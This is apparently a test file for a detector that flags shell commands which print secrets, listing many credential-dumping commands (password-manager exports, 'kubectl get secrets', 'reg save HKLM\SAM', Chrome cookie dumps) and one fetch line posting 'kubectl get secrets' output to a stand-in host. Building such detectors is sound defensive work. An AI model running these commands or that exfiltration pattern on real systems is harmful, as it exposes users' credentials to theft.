import assert from 'node:assert/strict';
import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';
import { printsSecrets } from '../../../../server/src/artifacts/analysis/shell/secret-printers.js';
import { flowsOf } from '../code/platform/sent.js';

describe('commands that print secrets', () => {
  for (const command of [
    'bw list items --session x',
    'lpass export',
    'pass show mail/work',
    'secret-tool search --all x y',
    'az account get-access-token',
    'kubectl get secrets -A -o json',
    'kubectl --context prod config view --raw',
    'vault kv get -format=json a',
    'gpg --export-secret-keys --armor',
    'gpg --batch --export-secret-keys',
    'ssh-add -L',
    'heroku auth:token',
    'doppler secrets download',
    'infisical export',
    'vercel env pull /dev/stdout',
    'netlify env:list --plain',
    'flyctl auth token',
    'firebase login:ci',
    'supabase secrets list',
    'netsh wlan show profile name="x" key=clear',
    String.raw`reg save HKLM\SAM a`,
    'cmdkey /list',
    'x=$(sops -d secrets.yaml)',
    'cat ~/.bash_history',
    'kwallet-query -l kdewallet',
  ]) {
    it(command, () => {
      assert.deepEqual(readCommand(command).reveals, ['credential-file']);
    });
  }

  it('print what a browser keeps', () => {
    const command = 'sqlite3 ~/.config/google-chrome/Default/Cookies .dump';
    assert.deepEqual(printsSecrets(command), ['browser-data']);
    assert.deepEqual(printsSecrets('sqlite3 app.db "select * from cookies_seen"'), []);
  });

  for (const command of [
    'kubectl get pods -o json',
    'kubectl config view',
    'kubectl config current-context',
    'az account show',
    'vault status',
    'gpg --verify a.asc',
    'gpg --export-keys',
    'ssh-add ~/keys/a',
    'firebase deploy --only hosting',
    'vercel deploy --prod',
    'flyctl deploy',
    'netlify deploy --prod',
    'terraform output',
    'terraform plan -json',
    'heroku git:remote -a x',
    'heroku config:set A=1',
    'npm run bw -- list',
    'compass show x',
    'reg query HKLM\\Software\\Node.js',
    'netsh wlan show interfaces',
    'doppler run -- node a.js',
    'infisical run -- node a.js',
  ]) {
    it(`are not all that the same programs do: ${command}`, () => {
      assert.deepEqual(printsSecrets(command), []);
    });
  }

  it('give what they print to whoever reads it', () => {
    const sent = (command: string, host = 'collect.invalid') =>
      flowsOf(`fetch('https://${host}', { method: 'POST', body: cp.execSync('${command}').toString() });`);
    assert.deepEqual(sent('kubectl get secrets -A -o json'), ['credential-file>network@collect.invalid']);
    assert.deepEqual(sent('kubectl get pods -o json'), ['command-output>network@collect.invalid']);
  });
});
